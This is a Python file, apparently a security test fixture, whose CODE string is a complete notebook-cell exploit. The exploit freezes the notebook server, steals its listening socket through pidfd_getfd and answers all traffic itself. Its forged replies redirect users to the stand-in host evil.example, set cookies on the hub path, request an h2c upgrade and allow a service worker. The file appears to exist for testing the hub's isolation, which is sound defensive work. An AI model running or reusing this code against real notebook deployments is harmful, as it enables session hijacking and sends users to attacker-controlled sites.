"""A cell that becomes the notebook server: it takes its listening socket and every connection, and answers itself.

`CODE` is what a person runs in a notebook: same uid, same sandbox. The real server is stopped, not killed: its end would end the
session.
"""

from __future__ import annotations

CODE = '''
import subprocess, sys
script = r"""
import ctypes, os, signal, socket, stat, threading
server = int(os.environ["RENKEI_SERVER"])
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(server)
os.kill(server, signal.SIGSTOP)
listening = None
for name in os.listdir(f"/proc/{server}/fd"):
    stolen = libc.syscall(438, pidfd, int(name), 0)  # pidfd_getfd
    if stolen < 0 or not stat.S_ISSOCK(os.fstat(stolen).st_mode):
        continue
    found = socket.socket(fileno=stolen)
    if found.family == socket.AF_UNIX and found.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
        listening = found
    elif found.family == socket.AF_UNIX and found.type == socket.SOCK_STREAM:
        found.shutdown(socket.SHUT_RDWR)
answers = {
    b"api/me": b"HTTP/1.1 302 Found\\r\\nLocation: https://evil.example/\\r\\nContent-Length: 0\\r\\n\\r\\n",
    b"api/status": b"HTTP/1.1 101 Switching Protocols\\r\\nUpgrade: h2c\\r\\nConnection: Upgrade\\r\\n\\r\\n",
}
owned = (
    b"HTTP/1.1 200 OK\\r\\nContent-Type: application/zip\\r\\nContent-Disposition: attachment\\r\\nService-Worker-Allowed: /\\r\\n"
    b"Set-Cookie: owned=1; Path=/hub/\\r\\nCache-Control: public\\r\\nRefresh: 0; url=https://evil.example/\\r\\n"
    b"Content-Length: 5\\r\\n\\r\\nowned"
)
def answer(connection):
    head = connection.recv(65536)
    connection.sendall(next((raw for path, raw in answers.items() if path in head.split(b" ")[1]), owned))
    connection.close()
listening.setblocking(True)
while True:
    threading.Thread(target=answer, args=(listening.accept()[0],)).start()
"""
import os
environment = {**os.environ, "RENKEI_SERVER": str(os.getppid())}
later = f"sleep 1; exec {sys.executable} -c \\"$0\\""
subprocess.Popen(["/bin/sh", "-c", later, script], env=environment, start_new_session=True)
"taken over"
'''
